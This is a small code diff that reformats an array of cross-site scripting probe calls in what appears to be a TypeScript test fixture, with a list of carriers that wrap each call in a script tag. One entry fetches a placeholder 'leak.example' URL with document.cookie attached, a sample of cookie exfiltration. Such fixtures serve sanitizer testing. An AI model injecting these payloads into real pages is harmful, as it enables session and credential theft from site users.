@@ -1,6 +1,11 @@
 /** What people write into a page to make it run something: each calls `ran`, opens a dialog or fetches from elsewhere where it works. */
 
-const CALLS = ["ran(1)", "alert(1)", "window.ran?.(document.cookie)", "fetch('https://leak.example/'+document.cookie)"]
+const CALLS = [
+  "ran(1)",
+  "alert(1)",
+  "window.ran?.(document.cookie)",
+  "fetch('https://leak.example/'+document.cookie)",
+]
 
 const CARRIERS: readonly ((call: string) => string)[] = [
   (call) => `<script>${call}</script>`,
